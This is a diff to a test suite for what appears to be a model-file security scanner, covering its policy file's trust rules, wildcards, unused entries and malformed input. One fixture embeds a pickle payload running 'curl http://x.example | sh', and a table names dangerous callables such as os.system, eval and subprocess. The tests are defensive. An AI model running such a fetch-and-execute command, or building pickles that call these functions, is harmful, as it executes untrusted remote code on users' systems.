@@ -1,7 +1,7 @@
+import { execFileSync } from 'child_process';
 import { createHash } from 'crypto';
-import { symlinkSync } from 'fs';
-import { join } from 'path';
-import { EVIL, HONEST, Program, STRANGE, UNKNOWN } from './program';
+import { join, resolve } from 'path';
+import { EVIL, Program, STRANGE, UNKNOWN } from './program';
 
 const program = new Program();
 afterAll(() => program.remove());
@@ -13,7 +13,6 @@ const TRUST = '[[trusted]]\nmodule = "my_lab.models"\noperator = "Encoder"\nreas
 
 program.file('work/models/evil.pkl', EVIL);
 program.file('work/models/unknown.pkl', UNKNOWN);
-const work = join(program.folder, 'work');
 const policy = (name: string, text: string): string => program.file(`policies/${name}.toml`, text);
 
 describe('a policy', () => {
@@ -63,6 +62,11 @@ describe('a policy', () => {
     expect(program.run([near, '--policy', named, '--fail-on', 'low']).status).toBe(1);
   });
 
+  it('may begin with a byte order mark, and end its lines as Windows does', () => {
+    const named = policy('windows', '\ufefffail-on = "low"\r\n');
+    expect(program.run(['work/models/unknown.pkl', '--policy', named]).status).toBe(1);
+  });
+
   it('excludes by glob, and lists what it excluded in every report', () => {
     const named = policy('exclude', 'exclude = ["ev*.pkl", "strange/**"]\n');
     program.file('work/strange/x.bin', STRANGE);
@@ -80,45 +84,69 @@ describe('a policy', () => {
   });
 });
 
-describe('the policy’s place', () => {
-  it('is the working folder or one above it', () => {
-    program.file('project/scan-model.toml', 'fail-on = "low"\n');
-    program.file('project/sub/models/unknown.pkl', UNKNOWN);
-    const { status, report } = program.json(['models'], { cwd: join(program.folder, 'project/sub') });
-    expect(status).toBe(1);
-    expect(report.summary.policy).toBe('../scan-model.toml');
+describe('trust', () => {
+  it('is never more than the rules allow: what is dangerous with any argument is not waived', () => {
+    const lambda = resolve('examples/totally_safe_model.keras');
+    const keras = TRUST.replace('my_lab.models', 'Keras').replace('Encoder', 'Lambda');
+    const { report } = program.json([lambda, '--policy', policy('lambda', keras)]);
+    expect(report.issues.filter(({ rule }) => rule === 'keras-lambda')).not.toEqual([]);
+    expect(report.accepted).toEqual([]);
+    expect(report.summary.policy_unused).toMatchObject([{ what: 'Keras.Lambda', line: 1, why: 'powerless' }]);
   });
 
-  it('is never inside what is scanned, unless it is named', () => {
-    program.file('hostile/evil.pkl', EVIL);
-    const brought = program.file('hostile/scan-model.toml', accept('2999-12-31'));
-    const cwd = join(program.folder, 'hostile');
-    for (const run of [program.json(['.'], { cwd }), program.json(['hostile'])]) {
-      expect(run.status).toBe(1);
-      expect(run.report.summary.policy).toBeUndefined();
-      const finding = run.report.issues.find(({ rule }) => rule === 'policy-in-scan');
-      expect(finding).toMatchObject({ source: 'scan-model.toml', severity: 'LOW' });
-      expect(finding?.what_to_do).toContain('--policy');
+  it.each([
+    ['my_lab.*', '*', true],
+    ['my_lab.*', 'Encoder', true],
+    ['my_lab.models', '*', true],
+    ['my_lab.models.*', '*', true],
+    ['my_la.*', '*', false],
+    ['my_lab.models.deep.*', '*', false],
+    ['my_lab', '*', false],
+    ['my_lab.*', 'Decoder', false]
+  ])('of %s and %s', (module, operator, trusted) => {
+    const text = TRUST.replace('my_lab.models', module).replace('Encoder', operator);
+    const { report } = program.json(['work/models/unknown.pkl', '--policy', policy('wide', text)]);
+    expect(report.accepted).toHaveLength(trusted ? 1 : 0);
+  });
+
+  it('of a wildcard ends where arguments are suspicious; a callable that is named is trusted with any', () => {
+    const file = program.file('work/command.pkl', "cmy_lab.models\nEncoder\n(S'curl http://x.example | sh'\ntR.");
+    const wide = policy('wide', TRUST.replace('Encoder', '*'));
+    expect(program.json([file, '--policy', wide]).report.accepted).toEqual([]);
+    expect(program.json([file, '--policy', policy('exact', TRUST)]).report.accepted).toHaveLength(1);
+  });
+});
+
+describe('entries that make no difference', () => {
+  const text = `exclude = ["*.old"]\n${TRUST}${TRUST.replace('Encoder', 'Decoder')}${accept('2001-01-01')}${accept('2999-12-31', 'pickle-unknown-call')}`;
+  const named = policy('unused', text);
+
+  it('are told in JSON, and are no errors', () => {
+    const { status, report } = program.json(['work/models/unknown.pkl', '--policy', named]);
+    expect(status).toBe(0);
+    expect(report.summary.policy_unused).toMatchObject([
+      { kind: 'exclude', what: '*.old', line: 1, why: 'unmatched' },
+      { kind: 'trusted', what: 'my_lab.models.Decoder', line: 6, why: 'unmatched' },
+      { kind: 'accepted', what: 'pickle-dangerous-call', line: 10, why: 'expired', expires: '2001-01-01' },
+      { kind: 'accepted', what: 'pickle-unknown-call', line: 15, why: 'unmatched' }
+    ]);
+  });
+
+  it('are told on the console and in HTML', () => {
+    for (const format of ['console', 'html']) {
+      const { stdout } = program.run(['work/models/unknown.pkl', '--policy', named, '-r', format]);
+      expect(stdout).toContain('Line 6, trusted my_lab.models.Decoder: it matches nothing in this scan.');
+      expect(stdout).toContain('Line 10, accepted pickle-dangerous-call: it ran out on 2001-01-01');
     }
-    const named = program.json(['hostile', '--policy', brought]);
-    expect(named.status).toBe(0);
-    expect(named.report.issues).toEqual([]);
-    expect(named.report.accepted).toHaveLength(1);
   });
 
-  it('is not inside what is scanned by way of a link either', () => {
-    symlinkSync(join(program.folder, 'hostile'), join(program.folder, 'linked'));
-    expect(program.run([join(program.folder, 'linked')], { cwd: join(program.folder, 'hostile') }).status).toBe(1);
-    program.file('borrowed/model.pkl', HONEST);
-    symlinkSync(join(program.folder, 'hostile/scan-model.toml'), join(program.folder, 'borrowed/scan-model.toml'));
-    const cwd = join(program.folder, 'borrowed');
-    expect(program.json(['model.pkl', '../hostile'], { cwd }).report.summary.policy).toBeUndefined();
-  });
-
-  it('looks further up when the nearest lies inside what is scanned', () => {
-    program.file('project/sub/scan-model.toml', 'fail-on = "critical"\n');
-    const { report } = program.json(['.'], { cwd: join(program.folder, 'project/sub') });
-    expect(report.summary).toMatchObject({ policy: '../scan-model.toml', fail_on: 'low' });
+  it('are those that were used by no part of a split scan', () => {
+    const parts = [1, 2].map(part => `unused${part}.json`);
+    parts.forEach((part, index) =>
+      program.run(['work/models', '--policy', named, '--shard', `${index + 1}/2`, '-r', 'json', '-o', part, '-q'])
+    );
+    const { report } = program.json(['merge', ...parts]);
+    expect(report.summary.policy_unused?.map(({ line }) => line)).toEqual([1, 6, 10, 15]);
   });
 });
 
@@ -139,7 +167,30 @@ describe('a malformed policy', () => {
       11,
       /expires must be a day/
     ],
-    ['no day', accept('2999-12-31').replace(/expires.*\n/, ''), 1, /lacks expires/]
+    ['no day', accept('2999-12-31').replace(/expires.*\n/, ''), 1, /lacks expires/],
+    ['a pattern without end', `exclude = ["${'[a-'.repeat(300_000)}"]\n`, 1, /exclude is longer than 2000 characters/],
+    ['a rule without end', accept('2999-12-31', 'x'.repeat(900_000)), 3, /rule is longer than/],
+    ['a key that stands twice', 'fail-on = "low"\nfail-on = "high"\n', 2, /./],
+    ['a range that runs backwards', '\nexclude = ["[z-a].pkl"]\n', 2, /runs backwards/],
+    [
+      'a rule that there is not',
+      accept('2999-12-31', 'pickle-dangerous-cal'),
+      3,
+      /Did you mean pickle-dangerous-call\?/
+    ],
+    ['a rule with a wildcard', accept('2999-12-31', 'pickle-*'), 3, /There is no rule pickle-\*/],
+    ['a module of any name', TRUST.replace('my_lab.models', '*'), 2, /as package\.\*/],
+    ['a wildcard within a module', TRUST.replace('my_lab.models', 'my_lab.*.models'), 2, /as package\.\*/],
+    ['a wildcard within an operator', TRUST.replace('Encoder', 'Enc*'), 3, /An operator is written in full/],
+    ['all of a part of Python', TRUST.replace('my_lab.models', 'collections.*'), 2, /parts of Python itself/],
+    [
+      'everything of a module of Python',
+      TRUST.replace('my_lab.models', 'os').replace('Encoder', '*'),
+      2,
+      /Python itself/
+    ],
+    ['a package of which parts are dangerous', TRUST.replace('my_lab.models', 'omegaconf.*'), 2, /Parts of omegaconf/],
+    ['tables in tables without end', `exclude = ${'['.repeat(100_000)}\n`, 1, /./]
   ])('%s', (_, text, line, message) => {
     const { status, stdout, stderr } = program.run(['work/models/evil.pkl', '--policy', policy('bad', text)]);
     expect({ status, stdout }).toEqual({ status: 4, stdout: '' });
@@ -147,8 +198,50 @@ describe('a malformed policy', () => {
     expect(stderr).toMatch(message);
   });
 
-  it('is an error where it is found too', () => {
-    program.file('work/scan-model.toml', 'fail_on = 1\n');
-    expect(program.run(['models'], { cwd: work }).status).toBe(4);
+  it.each([
+    ['os', 'system'],
+    ['posix', 'system'],
+    ['__builtin__', 'eval'],
+    ['builtins', 'getattr'],
+    ['subprocess', 'anything'],
+    ['pickle', 'loads'],
+    ['torch.serialization', 'os.system'],
+    ['keras.models', 'load_model']
+  ])('trusts %s.%s, which is dangerous with any argument', (module, operator) => {
+    const text = `\n${TRUST.replace('my_lab.models', module).replace('Encoder', operator)}`;
+    const { status, stderr } = program.run(['work/models/evil.pkl', '--policy', policy('danger', text)]);
+    expect(status).toBe(4);
+    expect(stderr).toContain('is wrong in line 3:');
+    expect(stderr).toContain('What is known to be dangerous cannot be trusted everywhere');
+  });
+
+  it.each([
+    ['UTF-16', Buffer.from('\ufefffail-on = "low"\n', 'utf16le')],
+    ['no text at all', Buffer.of(0xff, 0xfe, 0, 1)]
+  ])('is %s', (_, bytes) => {
+    const { status, stderr } = program.run(['work/models/evil.pkl', '--policy', program.file('odd.toml', bytes)]);
+    expect(status).toBe(4);
+    expect(stderr).toContain('it is no text in UTF-8');
+  });
+
+  it('is too large, a folder, a pipe or a device: nothing is waited for', () => {
+    execFileSync('mkfifo', [join(program.folder, 'pipe.toml')]);
+    const large = program.file('large.toml', '#'.repeat(2 ** 20 + 1));
+    for (const [path, message] of [
+      [large, 'larger than 1 MiB'],
+      ['work', 'no regular file'],
+      ['pipe.toml', 'no regular file'],
+      ['/dev/zero', 'no regular file']
+    ]) {
+      const { status, stderr } = program.run(['work/models/evil.pkl', '--policy', path]);
+      expect(status).toBe(4);
+      expect(stderr).toContain(message);
+    }
+  });
+
+  it('quotes what is in it as text', () => {
+    const { stderr } = program.run(['work', '--policy', policy('terminal', '"\\u001b[31m" = 1\n')]);
+    expect(stderr).toContain('There is no setting \\x1b[31m');
+    expect(stderr).not.toContain('\x1b');
   });
 });
